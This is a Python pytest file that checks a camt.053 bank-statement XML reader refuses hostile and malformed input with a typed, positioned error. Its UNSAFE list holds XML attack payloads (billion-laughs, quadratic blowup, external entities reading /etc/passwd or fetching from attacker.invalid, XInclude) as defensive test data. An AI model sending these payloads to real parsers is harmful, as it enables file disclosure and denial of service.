"""Hostile and malformed camt input: every case is refused with a typed error and a
position, nothing is returned, within 2 s and 256 MB (RELIABILITY.md rule 6).

The corpus is generated from one valid document (:data:`TEMPLATE`): each case changes
one slot of it, cuts it, corrupts its bytes, or replaces it with an attack. The MT940
and CSV readers have their own corpus; together they make the 100+ hostile inputs.
"""

from __future__ import annotations

import re
import time
import tracemalloc
from collections.abc import Callable
from typing import Any

import pytest

from o2c.adapters.statements._xml import _CHUNK, DEFAULT_MAX_BYTES
from o2c.adapters.statements.camt import read_camt
from o2c.errors import (
    StatementBalanceError,
    StatementEncodingError,
    StatementFormatError,
    StatementTooLargeError,
    StatementValueError,
    UnsafeStatementError,
    UnsupportedStatementError,
)
from o2c.money import Money

TIME_LIMIT = 2.0
MEMORY_LIMIT = 256 * 1024 * 1024
NS = "urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"
LINE_COLUMN = r"line \d+, column \d+"

TEMPLATE = """{decl}<Document xmlns="{ns}">
  <{msg}>
    <GrpHdr><MsgId>M1</MsgId><CreDtTm>2026-03-02T09:00:00</CreDtTm></GrpHdr>
    <Stmt>
      {stmt_id}
      {acct}
      <Bal><Tp><CdOrPrtry><Cd>OPBD</Cd></CdOrPrtry></Tp>{bal_amount}
        <CdtDbtInd>CRDT</CdtDbtInd>{bal_date}</Bal>
      <Bal><Tp><CdOrPrtry><Cd>CLBD</Cd></CdOrPrtry></Tp><Amt Ccy="EUR">135.00</Amt>
        <CdtDbtInd>CRDT</CdtDbtInd><Dt><Dt>2026-03-02</Dt></Dt></Bal>
      <Ntry>
        {amt}
        {sign}
        {rvsl}
        <Sts>BOOK</Sts>
        {booking}
        <AcctSvcrRef>B1</AcctSvcrRef>
        <NtryDtls><TxDtls><RltdPties><Dbtr><Nm>Müller &amp; Söhne</Nm></Dbtr></RltdPties>
          <RmtInf><Ustrd>Rechnung INV-1 ✓</Ustrd></RmtInf></TxDtls></NtryDtls>
      </Ntry>
      <Ntry>
        <Amt Ccy="EUR">25.00</Amt><CdtDbtInd>CRDT</CdtDbtInd><Sts>BOOK</Sts>
        <BookgDt><Dt>2026-03-02</Dt></BookgDt><AcctSvcrRef>B2</AcctSvcrRef>
        <NtryDtls>
          <TxDtls>{tx_amount}</TxDtls>
          <TxDtls><AmtDtls><TxAmt><Amt Ccy="EUR">15.00</Amt></TxAmt></AmtDtls></TxDtls>
        </NtryDtls>
      </Ntry>
      {extra}
    </Stmt>
  </{msg}>
</Document>
"""

DEFAULTS = {
    "decl": '<?xml version="1.0" encoding="UTF-8"?>\n',
    "ns": NS,
    "msg": "BkToCstmrStmt",
    "stmt_id": "<Id>STMT-1</Id>",
    "acct": "<Acct><Id><IBAN>DE89370400440532013000</IBAN></Id><Ccy>EUR</Ccy></Acct>",
    "bal_amount": '<Amt Ccy="EUR">100.00</Amt>',
    "bal_date": "<Dt><Dt>2026-03-01</Dt></Dt>",
    "amt": '<Amt Ccy="EUR">10.00</Amt>',
    "sign": "<CdtDbtInd>CRDT</CdtDbtInd>",
    "rvsl": "<RvslInd>false</RvslInd>",
    "booking": "<BookgDt><Dt>2026-03-02</Dt></BookgDt>",
    "tx_amount": '<AmtDtls><TxAmt><Amt Ccy="EUR">10.00</Amt></TxAmt></AmtDtls>',
    "extra": "",
}


def make(**slots: str) -> bytes:
    unknown = set(slots) - set(DEFAULTS)
    assert not unknown, unknown
    return TEMPLATE.format(**{**DEFAULTS, **slots}).encode("utf-8")


VALID = make()
END_OF_ROOT = VALID.index(b"</Document>") + len(b"</Document>")


def test_the_template_is_a_valid_statement() -> None:
    # Every case below is this document with one thing wrong.
    (statement,) = read_camt(VALID)
    assert statement.reconciles is True
    assert [e.amount for e in statement.entries] == [Money("10.00", "EUR"), Money("25.00", "EUR")]
    assert statement.entries[0].counterparty_name == "Müller & Söhne"


def refused(
    data: bytes | Callable[[], Any], expected: type[StatementFormatError], **options: Any
) -> StatementFormatError:
    """Read ``data``: it must raise ``expected`` with a position, in bounded time and
    memory, and return nothing. Time and memory are measured in two runs (tracing
    allocations slows Python down several times)."""
    payload = data() if callable(data) else data
    started = time.perf_counter()
    with pytest.raises(expected) as caught:
        read_camt(payload, **options)
    elapsed = time.perf_counter() - started
    assert elapsed < TIME_LIMIT, f"took {elapsed:.2f} s"
    tracemalloc.start()
    try:
        with pytest.raises(expected):
            read_camt(payload, **options)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < MEMORY_LIMIT, f"peak {peak / 2**20:.0f} MiB"
    err = caught.value
    assert err.position.strip(), "every refusal has a position"
    assert err.reason.strip()
    assert err.format.startswith("camt")
    line = err.fields.get("line")
    if line is not None and isinstance(payload, bytes):
        assert 1 <= line <= payload.count(b"\n") + 1
    return err


def at_entry(field: str) -> str:
    return rf"^Stmt\[1\]/Ntry\[1\]/{field} \({LINE_COLUMN}\)$"


# --------------------------------------------------------------------------- the corpus

LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE Document [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
    + f']><Document xmlns="{NS}">&a9;</Document>'
)
QUADRATIC = (
    f'<?xml version="1.0"?><!DOCTYPE Document [<!ENTITY big "{"x" * 50_000}">]>'
    f'<Document xmlns="{NS}">' + "&big;" * 20_000 + "</Document>"
)


def attack(dtd: str, body: str = "") -> bytes:
    return f'<?xml version="1.0"?>\n{dtd}\n<Document xmlns="{NS}">{body}</Document>'.encode()


UNSAFE: list[tuple[str, bytes]] = [
    ("billion-laughs", LAUGHS.encode()),
    ("quadratic-blowup", QUADRATIC.encode()),
    (
        "external-entity-file",
        attack('<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"),
    ),
    (
        "external-entity-http",
        attack('<!DOCTYPE d [<!ENTITY x SYSTEM "http://attacker.invalid/x">]>', "&x;"),
    ),
    ("external-dtd-system", attack('<!DOCTYPE Document SYSTEM "http://attacker.invalid/a.dtd">')),
    (
        "external-dtd-public",
        attack('<!DOCTYPE Document PUBLIC "-//A//B//EN" "http://attacker.invalid/a.dtd">'),
    ),
    (
        "parameter-entity",
        attack('<!DOCTYPE d [<!ENTITY % p SYSTEM "http://attacker.invalid/p.dtd"> %p;]>'),
    ),
    (
        "unparsed-entity",
        attack('<!DOCTYPE d [<!NOTATION n SYSTEM "x"><!ENTITY u SYSTEM "y" NDATA n>]>'),
    ),
    (
        "entity-in-attribute",
        attack('<!DOCTYPE d [<!ENTITY e "EUR">]>', '<Amt Ccy="&e;">1</Amt>'),
    ),
    ("attribute-defaults-dtd", attack("<!DOCTYPE d [<!ATTLIST Amt Ccy CDATA 'EUR'>]>")),
    ("bare-doctype", attack("<!DOCTYPE Document>")),
    (
        "xinclude-2001",
        make(extra='<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>'),
    ),
    (
        "xinclude-2003",
        make(extra='<x:include xmlns:x="http://www.w3.org/2003/XInclude" href="file:///x"/>'),
    ),
]


@pytest.mark.parametrize(("name", "data"), UNSAFE, ids=[n for n, _ in UNSAFE])
def test_unsafe_xml_features_are_refused(name: str, data: bytes) -> None:
    err = refused(data, UnsafeStatementError)
    assert re.fullmatch(LINE_COLUMN, err.position), err.position
    assert err.feature in {"DTD (document type declaration)", "XInclude"}


BAD_AMOUNTS = [
    "NaN",
    "nan",
    "sNaN",
    "Infinity",
    "inf",
    "-inf",
    "1e3",
    "1E3",
    "1,000.00",
    "1.000,00",
    "1 000.00",
    "0,50",
    "-5",
    "+5",
    "",
    "   ",
    "1.5.5",
    ".5",
    "5.",
    "0x10",
    "\u0661\u0662\u0663",  # Arabic-Indic digits
    "\uff11\uff12",  # full-width digits
    "1_000",
    "12.345678",  # 6 decimals: the schema allows 5
    "1234567890123456789",  # 19 digits: the schema allows 18
    "12 .50",
    "\u22125",  # minus sign
    "5-",
    "12.50 EUR",
    "\u00a012.50",
]


@pytest.mark.parametrize("text", BAD_AMOUNTS, ids=repr)
def test_bad_entry_amounts_are_refused_with_the_element(text: str) -> None:
    data = make(amt=f'<Amt Ccy="EUR">{text}</Amt>')
    err = refused(data, StatementValueError)
    assert re.fullmatch(at_entry("Amt"), err.position), err.position
    assert err.field == "Amt"
    # The position is the amount element's own start tag.
    start = data.index(b'<Amt Ccy="EUR">', data.index(b"<Ntry>"))
    line = data.count(b"\n", 0, start) + 1
    column = start - data.rindex(b"\n", 0, start)
    assert (err.line, err.column) == (line, column)


@pytest.mark.parametrize(
    ("slots", "path"),
    [
        ({"bal_amount": '<Amt Ccy="EUR">NaN</Amt>'}, r"Stmt\[1\]/Bal\[1\]/Amt"),
        (
            {"tx_amount": '<AmtDtls><TxAmt><Amt Ccy="EUR">1e1</Amt></TxAmt></AmtDtls>'},
            r"Stmt\[1\]/Ntry\[2\]/TxDtls\[1\]/AmtDtls/TxAmt/Amt",
        ),
        ({"tx_amount": '<Amt Ccy="EUR">-10.00</Amt>'}, r"Stmt\[1\]/Ntry\[2\]/TxDtls\[1\]/Amt"),
    ],
    ids=["balance", "transaction-amtdtls", "transaction-amt"],
)
def test_bad_amounts_anywhere_are_refused(slots: dict[str, str], path: str) -> None:
    err = refused(make(**slots), StatementValueError)
    assert re.fullmatch(rf"{path} \({LINE_COLUMN}\)", err.position), err.position


BAD_VALUES: list[tuple[str, dict[str, str], str]] = [
    ("currency-word", {"amt": '<Amt Ccy="EURO">10.00</Amt>'}, "Ccy"),
    ("currency-lower", {"amt": '<Amt Ccy="eur">10.00</Amt>'}, "Ccy"),
    ("currency-unknown", {"amt": '<Amt Ccy="XQZ">10.00</Amt>'}, "Ccy"),
    ("currency-empty", {"amt": '<Amt Ccy="">10.00</Amt>'}, "Ccy"),
    ("currency-missing", {"amt": "<Amt>10.00</Amt>"}, "Ccy"),
    (
        "account-currency",
        {"acct": "<Acct><Id><IBAN>DE89370400440532013000</IBAN></Id><Ccy>E1R</Ccy></Acct>"},
        "Ccy",
    ),
    ("date-feb-30", {"booking": "<BookgDt><Dt>2026-02-30</Dt></BookgDt>"}, "Dt"),
    ("date-month-13", {"booking": "<BookgDt><Dt>2026-13-01</Dt></BookgDt>"}, "Dt"),
    ("date-two-digit-year", {"booking": "<BookgDt><Dt>26-03-02</Dt></BookgDt>"}, "Dt"),
    ("date-slashes", {"booking": "<BookgDt><Dt>2026/03/02</Dt></BookgDt>"}, "Dt"),
    ("date-basic-format", {"booking": "<BookgDt><Dt>20260302</Dt></BookgDt>"}, "Dt"),
    ("date-empty", {"booking": "<BookgDt><Dt></Dt></BookgDt>"}, "Dt"),
    (
        "datetime-hour-25",
        {"booking": "<BookgDt><DtTm>2026-03-02T25:00:00</DtTm></BookgDt>"},
        "DtTm",
    ),
    ("datetime-space", {"booking": "<BookgDt><DtTm>2026-03-02 10:00:00</DtTm></BookgDt>"}, "DtTm"),
    ("datetime-feb-30", {"booking": "<BookgDt><DtTm>2026-02-30T10:00:00</DtTm></BookgDt>"}, "DtTm"),
    ("date-neither", {"booking": "<BookgDt><Foo>2026-03-02</Foo></BookgDt>"}, "BookgDt"),
    ("balance-date-bad", {"bal_date": "<Dt><Dt>2026-00-10</Dt></Dt>"}, "Dt"),
    ("indicator-word", {"sign": "<CdtDbtInd>CREDIT</CdtDbtInd>"}, "CdtDbtInd"),
    ("indicator-empty", {"sign": "<CdtDbtInd/>"}, "CdtDbtInd"),
    ("indicator-missing", {"sign": ""}, "CdtDbtInd"),
    ("reversal-yes", {"rvsl": "<RvslInd>yes</RvslInd>"}, "RvslInd"),
    ("missing-statement-id", {"stmt_id": ""}, "Id"),
    ("empty-statement-id", {"stmt_id": "<Id>  </Id>"}, "Id"),
    ("missing-account", {"acct": ""}, "Acct"),
    ("account-without-id", {"acct": "<Acct><Ccy>EUR</Ccy></Acct>"}, "Acct"),
    ("missing-amount", {"amt": ""}, "Amt"),
    ("missing-booking-and-value-date", {"booking": ""}, "BookgDt"),
    ("missing-balance-date", {"bal_date": ""}, "Dt"),
    (
        "balance-in-another-currency",
        {"bal_amount": '<Amt Ccy="USD">100.00</Amt>'},
        "Ccy",
    ),
    ("entry-in-another-currency", {"amt": '<Amt Ccy="CHF">10.00</Amt>'}, "Ccy"),
    (
        "batch-does-not-sum",
        {"tx_amount": '<AmtDtls><TxAmt><Amt Ccy="EUR">10.01</Amt></TxAmt></AmtDtls>'},
        "TxDtls",
    ),
    ("batch-transaction-without-amount", {"tx_amount": ""}, "Amt"),
]


@pytest.mark.parametrize(
    ("name", "slots", "field"), BAD_VALUES, ids=[name for name, _, _ in BAD_VALUES]
)
def test_bad_or_missing_values_are_refused_with_the_element(
    name: str, slots: dict[str, str], field: str
) -> None:
    err = refused(make(**slots), StatementValueError)
    assert err.field == field
    assert re.fullmatch(rf"Stmt\[1\]\S* \({LINE_COLUMN}\)", err.position), err.position


def test_a_balance_type_without_code_is_refused() -> None:
    data = VALID.replace(b"<Cd>OPBD</Cd>", b"<Cd> </Cd>")
    err = refused(data, StatementValueError)
    assert err.reason == "the balance type is empty"
    data = VALID.replace(b"<Tp><CdOrPrtry><Cd>OPBD</Cd></CdOrPrtry></Tp>", b"")
    assert refused(data, StatementValueError).field == "CdOrPrtry"


def test_statements_that_do_not_reconcile_are_refused() -> None:
    data = VALID.replace(b">135.00<", b">135.01<")
    err = refused(data, StatementBalanceError)
    assert err.closing == Money("135.01", "EUR")
    assert err.movements == Money("35.00", "EUR")


STRUCTURE: list[tuple[str, Callable[[], bytes], type[StatementFormatError], str]] = [
    ("empty", lambda: b"", StatementFormatError, "byte 0"),
    ("white-space-only", lambda: b" \n\t\r\n", StatementFormatError, "byte 0"),
    ("declaration-only", lambda: b'<?xml version="1.0"?>', StatementFormatError, LINE_COLUMN),
    ("comment-only", lambda: b"<!-- nothing -->", StatementFormatError, LINE_COLUMN),
    ("text-not-xml", lambda: b"hello, world", StatementFormatError, LINE_COLUMN),
    ("json", lambda: b'{"Document": {}}', StatementFormatError, LINE_COLUMN),
    (
        "html",
        lambda: b"<html><body>statement</body></html>",
        UnsupportedStatementError,
        LINE_COLUMN,
    ),
    ("zip", lambda: b"PK\x03\x04" + VALID, UnsupportedStatementError, "byte 0"),
    ("pdf", lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", UnsupportedStatementError, "byte 0"),
    ("gzip", lambda: b"\x1f\x8b\x08\x00" + VALID[:50], UnsupportedStatementError, "byte 0"),
    (
        "binary",
        lambda: bytes(range(256)) * 4,
        StatementEncodingError,
        rf"{LINE_COLUMN} \(byte 128\)",
    ),
    (
        "pain-001-not-camt",
        lambda: make(ns="urn:iso:std:iso:20022:tech:xsd:pain.001.001.03"),
        UnsupportedStatementError,
        LINE_COLUMN,
    ),
    ("no-namespace", lambda: make(ns=""), UnsupportedStatementError, LINE_COLUMN),
    (
        "camt-999",
        lambda: make(ns="urn:iso:std:iso:20022:tech:xsd:camt.999.001.02"),
        UnsupportedStatementError,
        LINE_COLUMN,
    ),
    (
        "camt-version-99",
        lambda: make(ns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.99"),
        UnsupportedStatementError,
        LINE_COLUMN,
    ),
    (
        "camt-version-00",
        lambda: make(ns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.00"),
        UnsupportedStatementError,
        LINE_COLUMN,
    ),
    (
        "namespace-with-suffix",
        lambda: make(ns=NS + "x"),
        UnsupportedStatementError,
        LINE_COLUMN,
    ),
    (
        "root-not-document",
        lambda: VALID.replace(b"<Document", b"<Doc").replace(b"</Document>", b"</Doc>"),
        UnsupportedStatementError,
        LINE_COLUMN,
    ),
    (
        "message-of-another-type",
        lambda: make(msg="BkToCstmrAcctRpt"),
        UnsupportedStatementError,
        LINE_COLUMN,
    ),
    (
        "two-messages",
        lambda: VALID.replace(
            b"</BkToCstmrStmt>", b"</BkToCstmrStmt><BkToCstmrStmt></BkToCstmrStmt>"
        ),
        UnsupportedStatementError,
        LINE_COLUMN,
    ),
    (
        "no-statement",
        lambda: VALID[: VALID.index(b"<Stmt>")] + b"</BkToCstmrStmt></Document>",
        StatementValueError,
        rf"BkToCstmrStmt \({LINE_COLUMN}\)",
    ),
    (
        "no-message",
        f'<Document xmlns="{NS}"/>'.encode,
        StatementValueError,
        rf"Document \({LINE_COLUMN}\)",
    ),
    ("junk-after-root", lambda: VALID + b"<x/>", StatementFormatError, LINE_COLUMN),
    (
        "two-roots",
        lambda: VALID + VALID[VALID.index(b"<Document") :],
        StatementFormatError,
        LINE_COLUMN,
    ),
    (
        "mismatched-tag",
        lambda: VALID.replace(b"</AcctSvcrRef>", b"</AcctSvcrReff>", 1),
        StatementFormatError,
        LINE_COLUMN,
    ),
    (
        "nul-byte",
        lambda: VALID.replace(b"B1", b"B\x001", 1),
        StatementFormatError,
        LINE_COLUMN,
    ),
    (
        "control-character-reference",
        lambda: VALID.replace(b"B1", b"B&#1;1", 1),
        StatementFormatError,
        LINE_COLUMN,
    ),
    (
        "undefined-entity",
        lambda: VALID.replace(b"B1", b"B&foo;1", 1),
        StatementFormatError,
        LINE_COLUMN,
    ),
    (
        "unclosed-comment",
        lambda: VALID.replace(b"<Sts>", b"<!-- <Sts>", 1),
        StatementFormatError,
        LINE_COLUMN,
    ),
    (
        "declaration-not-at-start",
        lambda: b"\n" + VALID,
        StatementFormatError,
        LINE_COLUMN,
    ),
]


@pytest.mark.parametrize(
    ("name", "data", "expected", "position"), STRUCTURE, ids=[s[0] for s in STRUCTURE]
)
def test_malformed_documents_are_refused(
    name: str, data: Callable[[], bytes], expected: type[StatementFormatError], position: str
) -> None:
    err = refused(data, expected)
    assert type(err) is expected
    assert re.fullmatch(position, err.position), err.position


def test_text_instead_of_bytes_is_refused() -> None:
    err = refused(VALID.decode, StatementFormatError)  # type: ignore[arg-type, return-value]
    assert err.position == "(input)"


# --------------------------------------------------------------------------- encodings

BAD_UTF8 = {
    "ff": b"\xff",
    "lone-continuation": b"\x80",
    "bad-continuation": b"\xc3\x28",
    "overlong": b"\xc0\xaf",
    "surrogate": b"\xed\xa0\x80",
    "beyond-unicode": b"\xf5\x80\x80\x80",
}
POSITIONS = (0.0, 0.2, 0.5, 0.8, 0.97)


@pytest.mark.parametrize("where", POSITIONS)
@pytest.mark.parametrize("bad", list(BAD_UTF8.values()), ids=list(BAD_UTF8))
def test_invalid_utf8_is_refused_at_its_byte(bad: bytes, where: float) -> None:
    offset = int(len(VALID) * where)
    data = VALID[:offset] + bad + VALID[offset:]
    err = refused(data, StatementEncodingError)
    assert err.offset == offset
    line = data.count(b"\n", 0, offset) + 1
    assert err.position.startswith(f"line {line}, column ")
    assert err.position.endswith(f"(byte {offset})")


def test_a_multibyte_character_cut_at_the_end_is_refused() -> None:
    data = VALID + "€".encode()[:2]
    assert refused(data, StatementEncodingError).offset == len(VALID)


def test_invalid_utf8_after_the_first_mebibyte_is_found() -> None:
    # The check runs in 1 MiB chunks; a character split by a chunk edge is valid.
    start = VALID.index(b"<Stmt>") + len(b"<Stmt><!--")
    align = next(k for k in range(3) if (_CHUNK - start - k) % 3)
    padding = b"<!--" + b"a" * align + "€".encode() * (_CHUNK // 3 + 10) + b"-->"
    data = VALID.replace(b"<Stmt>", b"<Stmt>" + padding, 1)
    first = start + align
    assert first < _CHUNK < data.index(b"-->", first)
    assert (_CHUNK - first) % 3 != 0, "a euro sign straddles the chunk edge"
    assert read_camt(data)[0].statement_id == "STMT-1"
    broken = data.replace(b"B2", b"B\xff2", 1)
    assert refused(broken, StatementEncodingError).offset == broken.index(b"\xff")


ENCODINGS = [
    ("utf-16-le-bom", lambda: b"\xff\xfe" + VALID.decode().encode("utf-16-le")),
    ("utf-16-be-bom", lambda: b"\xfe\xff" + VALID.decode().encode("utf-16-be")),
    ("utf-32-bom", lambda: VALID.decode().encode("utf-32")),
    (
        "declared-latin-1",
        lambda: VALID.replace(b'encoding="UTF-8"', b'encoding="ISO-8859-1"'),
    ),
    ("declared-utf-16", lambda: VALID.replace(b'encoding="UTF-8"', b"encoding='UTF-16'")),
]


@pytest.mark.parametrize(("name", "data"), ENCODINGS, ids=[n for n, _ in ENCODINGS])
def test_other_encodings_are_refused(name: str, data: Callable[[], bytes]) -> None:
    err = refused(data, StatementEncodingError)
    assert re.fullmatch(rf"byte 0|{LINE_COLUMN}", err.position), err.position


def test_utf16_without_bom_is_refused_as_malformed() -> None:
    data = VALID.decode().replace('encoding="UTF-8"', "").encode("utf-16-le")
    refused(data, StatementFormatError)


def test_a_utf8_bom_is_accepted_and_a_second_one_is_not() -> None:
    assert read_camt(b"\xef\xbb\xbf" + VALID) == read_camt(VALID)
    refused(b"\xef\xbb\xbf\xef\xbb\xbf" + VALID, StatementFormatError)


# --------------------------------------------------------------------------- truncation

CUTS = sorted({0, 1, 5, 20, 39, 40, 41, 100, *range(200, END_OF_ROOT, 97), END_OF_ROOT - 1})


@pytest.mark.parametrize("cut", CUTS)
def test_a_truncated_document_is_refused(cut: int) -> None:
    err = refused(VALID[:cut], StatementFormatError)
    assert re.fullmatch(rf"byte 0|{LINE_COLUMN}( \(byte \d+\))?", err.position), err.position


def test_every_cut_point_of_the_document_is_refused() -> None:
    # Each cut is checked alone for time; the whole loop stays within the budget too.
    started = time.perf_counter()
    for cut in range(END_OF_ROOT):
        begun = time.perf_counter()
        with pytest.raises(StatementFormatError) as caught:
            read_camt(VALID[:cut])
        assert caught.value.position
        assert time.perf_counter() - begun < TIME_LIMIT
    assert time.perf_counter() - started < 30 * TIME_LIMIT
    # Cutting only the trailing newline leaves a complete document.
    assert read_camt(VALID[:END_OF_ROOT])[0].statement_id == "STMT-1"


# --------------------------------------------------------------------------- limits


def test_a_file_over_the_default_cap_is_refused_before_parsing() -> None:
    huge = VALID + b" " * (DEFAULT_MAX_BYTES + 1 - len(VALID))
    err = refused(huge, StatementTooLargeError)
    assert (err.size, err.limit, err.position) == (
        DEFAULT_MAX_BYTES + 1,
        DEFAULT_MAX_BYTES,
        f"byte {DEFAULT_MAX_BYTES}",
    )


def test_a_file_over_a_chosen_cap_is_refused() -> None:
    err = refused(VALID, StatementTooLargeError, max_bytes=len(VALID) - 1)
    assert err.size == len(VALID)
    assert read_camt(VALID, max_bytes=len(VALID))[0].statement_id == "STMT-1"


def test_deep_nesting_is_refused_at_the_limit() -> None:
    deep = "<X>" * 50_000 + "</X>" * 50_000
    err = refused(make(extra=deep), StatementFormatError)
    assert "nested deeper than 100" in err.reason
    err = refused(make(extra="<X>" * 20 + "</X>" * 20), StatementFormatError, max_depth=10)
    assert "nested deeper than 10" in err.reason


def test_too_many_elements_held_at_once_are_refused() -> None:
    # Inside one entry nothing can be consumed early: the elements are all held.
    many = "<AddtlNtryInf/>" * 5_000
    data = make(sign="<CdtDbtInd>CRDT</CdtDbtInd>" + many)
    err = refused(data, StatementFormatError, max_elements=1_000)
    assert "more than 1000 elements held at once" in err.reason
    # Consumed entries do not count: many small entries are fine under the same limit.
    entry = data[data.index(b"<Ntry>", data.index(b"</Ntry>")) : data.rindex(b"</Ntry>") + 7]
    many_entries = VALID.replace(b"</Stmt>", entry.replace(b"B2", b"B3") * 300 + b"</Stmt>")
    with pytest.raises(StatementBalanceError):
        read_camt(many_entries, max_elements=1_000)


def test_a_huge_flat_document_within_the_cap_is_refused_quickly() -> None:
    # 10 MB of elements in one entry: refused at the element limit, not after parsing.
    flood = "<AddtlNtryInf/>" * 700_000
    data = make(sign="<CdtDbtInd>CRDT</CdtDbtInd>" + flood)
    err = refused(data, StatementFormatError, max_elements=50_000)
    assert "elements held at once" in err.reason


def test_the_corpus_has_at_least_sixty_cases() -> None:
    cases = (
        len(UNSAFE)
        + len(BAD_AMOUNTS)
        + 3
        + len(BAD_VALUES)
        + len(STRUCTURE)
        + len(BAD_UTF8) * len(POSITIONS)
        + len(ENCODINGS)
        + len(CUTS)
    )
    assert cases >= 60, cases
